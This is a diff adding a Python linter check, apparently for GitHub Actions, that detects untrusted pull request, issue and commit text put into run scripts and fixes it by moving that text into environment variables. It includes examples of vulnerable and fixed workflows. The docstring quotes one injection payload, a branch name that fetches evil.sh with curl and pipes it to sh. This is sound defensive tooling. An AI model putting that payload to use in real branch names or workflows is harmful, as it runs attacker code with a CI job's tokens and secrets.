@@ -1,0 +1,388 @@
+"""Text of others becomes part of a script
+
+GitHub fills `${{ … }}` in before the shell reads a script. Where the text comes from a pull request, an issue, a
+commit or a form, whoever writes it writes a part of the script: a branch may be called `$(curl${IFS}evil.sh|sh)`. In
+a job that builds, signs or pushes, those commands have what the job has: its token, the registry that it is logged
+in to, the role that it has assumed.
+
+Hand the text over in a variable of the step, and read it in double quotes: the shell never takes the value of a
+variable for a command.
+
+The check is silent for what others can't write (digests and other outputs of steps, commits, numbers, choices),
+for `github.ref_name`, since who pushes the ref pushes the workflow with it, for events that don't fill a context,
+for pull requests where a condition keeps forks out, and for comments and issues where a condition may be about who
+wrote them. Inputs of a reusable workflow count as what its callers in the repository pass.
+
+References:
+
+- https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks
+- https://docs.github.com/en/actions/concepts/security/script-injections
+- https://securitylab.github.com/resources/github-actions-untrusted-input/
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from checks.check import (
+    Applicability,
+    Check,
+    Example,
+    Finding,
+    Kind,
+    Location,
+    Repository,
+    Scope,
+    Severity,
+    code,
+    offer,
+)  # fmt: skip
+from checks.facts.foreign_text import Foreign, Reach, foreign_texts
+from checks.facts.script_edits import moved_to_environment
+from checks.facts.scripts import parse_script
+from checks.facts.tree import Scalar
+from checks.facts.workflows import Step
+
+check = Check(
+    id="template-injection-in-run",
+    doc=__doc__,
+    severity=Severity.ERROR,
+    kinds=(Kind.WORKFLOW,),
+    fix=Applicability.SAFE,
+    scope=Scope.REPOSITORY,
+    tags=("security", "injection"),
+    security_severity=8.8,
+    examples=(
+        Example(
+            title="the name of a branch, in a job that has the secrets of the repository",
+            files="""\
+-- .github/workflows/preview.yml --
+on: pull_request_target
+permissions: {contents: read, packages: write}
+jobs:
+  preview:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: docker/login-action@v4
+        with: {registry: ghcr.io, username: '${{ github.actor }}', password: '${{ secrets.GITHUB_TOKEN }}'}
+      - name: build  # of the base
+        run: |
+          echo "Preview of ${{ github.head_ref }}"
+          docker build --label branch=${{ github.head_ref }} -t ghcr.io/acme/web:preview .
+          docker push ghcr.io/acme/web:preview
+""",
+            at="${{ github.head_ref }}",
+            fixed="""\
+-- .github/workflows/preview.yml --
+on: pull_request_target
+permissions: {contents: read, packages: write}
+jobs:
+  preview:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: docker/login-action@v4
+        with: {registry: ghcr.io, username: '${{ github.actor }}', password: '${{ secrets.GITHUB_TOKEN }}'}
+      - name: build  # of the base
+        env:
+          HEAD_REF: ${{ github.head_ref }}
+        run: |
+          echo "Preview of $HEAD_REF"
+          docker build --label "branch=$HEAD_REF" -t ghcr.io/acme/web:preview .
+          docker push ghcr.io/acme/web:preview
+""",
+        ),
+        Example(
+            title="title and branch of a pull request, by a variable of the job, in quotes of all kinds",
+            files="""\
+-- .github/workflows/build.yml --
+on: pull_request
+permissions: {contents: read}
+env:
+  BRANCH: ${{ github.event.pull_request.head.ref }}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo '${{ github.event.pull_request.title }}' ${{ env.BRANCH }}_1 'costs $5 ${{ env.BRANCH }}'
+          cat > notes.md <<EOF
+          ${{ github.event.pull_request.title }}
+          EOF
+          docker build -t web .
+        env:
+          DOCKER_BUILDKIT: 1
+""",
+            at="${{ github.event.pull_request.title }}",
+            fixed="""\
+-- .github/workflows/build.yml --
+on: pull_request
+permissions: {contents: read}
+env:
+  BRANCH: ${{ github.event.pull_request.head.ref }}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo "$PR_TITLE" "${BRANCH}_1" 'costs $5 '"$BRANCH"''
+          cat > notes.md <<EOF
+          $PR_TITLE
+          EOF
+          docker build -t web .
+        env:
+          DOCKER_BUILDKIT: 1
+          PR_TITLE: ${{ github.event.pull_request.title }}
+""",
+        ),
+        Example(
+            title="an input that is typed by hand, and a commit message",
+            files="""\
+-- .github/workflows/release.yml --
+on:
+  workflow_dispatch:
+    inputs:
+      webVersion: {description: to release, required: true}
+permissions: {contents: read}
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t acme/web:${{ inputs.webVersion }} . && docker push acme/web:${{ inputs.webVersion }}
+-- .github/workflows/notify.yml --
+on: {push: {branches: [main]}}
+permissions: {contents: read}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t web .
+      - run: echo "built ${{ github.event.head_commit.message }}"
+""",
+            at=("${{ inputs.webVersion }}", "${{ github.event.head_commit.message }}"),
+            fixed="""\
+-- .github/workflows/release.yml --
+on:
+  workflow_dispatch:
+    inputs:
+      webVersion: {description: to release, required: true}
+permissions: {contents: read}
+jobs:
+  release:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t "acme/web:$INPUT_WEB_VERSION" . && docker push "acme/web:$INPUT_WEB_VERSION"
+        env:
+          INPUT_WEB_VERSION: ${{ inputs.webVersion }}
+""",
+        ),
+        Example(
+            title="an input of a called workflow, with what its caller passes",
+            files="""\
+-- .github/workflows/build.yml --
+on:
+  workflow_call:
+    inputs: {tag: {type: string}}
+permissions: {contents: read}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t "web:${{ inputs.tag }}" .
+-- .github/workflows/pr.yml --
+on: pull_request
+permissions: {contents: read}
+jobs:
+  build:
+    uses: ./.github/workflows/build.yml
+    with: {tag: 'pr-${{ github.head_ref }}'}
+""",
+            at="${{ inputs.tag }}",
+            fixed="""\
+-- .github/workflows/build.yml --
+on:
+  workflow_call:
+    inputs: {tag: {type: string}}
+permissions: {contents: read}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t "web:$INPUT_TAG" .
+        env:
+          INPUT_TAG: ${{ inputs.tag }}
+-- .github/workflows/pr.yml --
+on: pull_request
+permissions: {contents: read}
+jobs:
+  build:
+    uses: ./.github/workflows/build.yml
+    with: {tag: 'pr-${{ github.head_ref }}'}
+""".partition("-- .github/workflows/pr.yml")[0],
+        ),
+        Example(
+            title="code of another program: a variable in it would be no safer",
+            files="""\
+-- .github/workflows/build.yml --
+on: pull_request
+permissions: {contents: read}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          docker build -t web .
+          bash -c "echo ${{ github.head_ref }}"
+      - run: python3 -c "print('${{ github.head_ref }}')"
+      - shell: pwsh
+        run: echo "${{ github.head_ref }}"
+""",
+            at=("${{ github.head_ref }}", "${{ github.head_ref }}", "${{ github.head_ref }}"),
+        ),
+        Example(
+            title="what others can't write, tests of it, variables, and what only looks like it",
+            files="""\
+-- .github/workflows/build.yml --
+on:
+  push: {branches: [main]}
+  pull_request:
+  workflow_dispatch:
+    inputs:
+      target: {type: choice, options: [dev, prod]}
+      dry: {type: boolean}
+permissions: {contents: read}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - id: build
+        run: |
+          docker build -t web:${{ github.sha }} -t web:${{ github.run_id }} -t web:${{ github.ref_name }} .
+          echo "${{ inputs.target }} ${{ inputs.dry }} ${{ github.event.pull_request.number }}"
+          echo "${{ github.head_ref == 'main' }} ${{ contains(github.event.pull_request.title, 'x') }}"
+          # of ${{ github.head_ref }}
+          echo "$HEAD_REF"
+        env:
+          HEAD_REF: ${{ github.head_ref }}
+      - run: cosign sign --yes "web@${{ steps.build.outputs.digest }}"
+      - if: github.event_name == 'push'
+        run: echo "${{ github.head_ref }}"
+      - if: github.event.pull_request.head.repo.full_name == github.repository
+        run: echo "${{ github.head_ref }}"
+""",
+        ),
+        Example(
+            title="a reusable workflow that nobody here calls, a comment whose author is checked, a job without images",
+            files="""\
+-- .github/workflows/reusable.yml --
+on:
+  workflow_call:
+    inputs: {tag: {type: string}}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t "web:${{ inputs.tag }}" .
+-- .github/workflows/comment.yml --
+on: issue_comment
+permissions: {contents: read}
+jobs:
+  build:
+    if: github.event.comment.author_association == 'OWNER'
+    runs-on: ubuntu-latest
+    steps:
+      - run: docker build -t web . && echo "${{ github.event.comment.body }}"
+-- .github/workflows/greet.yml --
+on: pull_request_target
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "${{ github.event.pull_request.title }}"
+""",
+        ),
+    ),
+)
+_SEVERITIES = {
+    Reach.ANYONE: Severity.ERROR,
+    Reach.MERGED: Severity.WARNING,
+    Reach.PULL_REQUEST: Severity.WARNING,
+    Reach.STARTER: Severity.NOTE,
+}
+_CONSEQUENCES = {
+    Reach.ANYONE: (
+        "The shell runs what stands in it, {example} for one: anyone on GitHub can start that, with the token and the "
+        "secrets of this job."
+    ),
+    Reach.MERGED: (
+        "The shell runs what stands in it, {example} for one: whose commit is merged runs commands with what this job "
+        "is logged in to."
+    ),
+    Reach.PULL_REQUEST: (
+        "The shell runs what stands in it, {example} for one. Nothing of that shows in the diff that a reviewer "
+        "approves."
+    ),
+    Reach.STARTER: (
+        "The shell runs what stands in it, {example} for one: who may start the workflow has what the job is logged in "
+        "to, without a commit that anybody reviews."
+    ),
+}
+_NAMES = {
+    "github.head_ref": "HEAD_REF",
+    "github.event.pull_request.head.ref": "HEAD_REF",
+    "github.event.pull_request.head.label": "HEAD_LABEL",
+    "github.event.pull_request.title": "PR_TITLE",
+    "github.event.pull_request.body": "PR_BODY",
+    "github.event.workflow_run.head_branch": "HEAD_BRANCH",
+    "github.event.head_commit.message": "COMMIT_MESSAGE",
+}
+
+
+def run(repo: Repository) -> Iterator[Finding]:
+    for workflow in repo.workflows:
+        for job in workflow.jobs:
+            if job in repo.image_jobs:
+                for step in job.steps:
+                    yield from _of_step(repo, step)
+
+
+def _of_step(repo: Repository, step: Step) -> Iterator[Finding]:
+    run = step.run
+    found = foreign_texts(step, repo.calls)
+    if run is None or not found:
+        return
+    comments = parse_script(run.value).comments if step.is_shell_script else ()
+    found = tuple(one for one in found if not any(comment.covers(one.found.span) for comment in comments))
+    if found:
+        yield _finding(step, run, found)
+
+
+def _finding(step: Step, run: Scalar, found: tuple[Foreign, ...]) -> Finding:
+    worst = min(found, key=lambda one: tuple(Reach).index(one.reach))
+    paths = tuple(dict.fromkeys(one.path for one in found))
+    more = f" and {len(paths) - 1} more" if len(paths) > 1 else ""
+    verb = "become" if more else "becomes"
+    edits = moved_to_environment(step, {one.found.span: _name(one.path) for one in found})
+    span = run.locate(worst.found.span.start, worst.found.span.end) or run.span
+    return Finding(
+        message=f"{code(worst.path)}{more} {verb} a part of the script, for {code(worst.event)}.",
+        consequence=_CONSEQUENCES[worst.reach].format(example=code("$(…)")),
+        location=Location(step.text, span),
+        related=_passed(worst.passed),
+        fixes=offer("hand it over in a variable", Applicability.SAFE, *edits) if edits else (),
+        withheld="" if edits else "the script reads it where a variable would be no safer, or not be read",
+        severity=_SEVERITIES[worst.reach],
+    )
+
+
+def _passed(place: Location | None) -> tuple[Location, ...]:
+    return (Location(place.text, place.span, f"passes {code(place.fragment)}"),) if place else ()
+
+
+def _name(path: str) -> str:
+    """The name of the variable: `INPUT_` before inputs, which no program takes for a setting of its own."""
+    last = re.sub(r"\W|(?<=[a-z0-9])(?=[A-Z])", "_", path.rpartition(".")[2]).upper()
+    if ".inputs." in f".{path}":
+        return f"INPUT_{last}"
+    parts = path.split(".")
+    return _NAMES.get(path.lower()) or "_".join(parts[-2:]).upper().replace("*", "ALL").replace("-", "_")
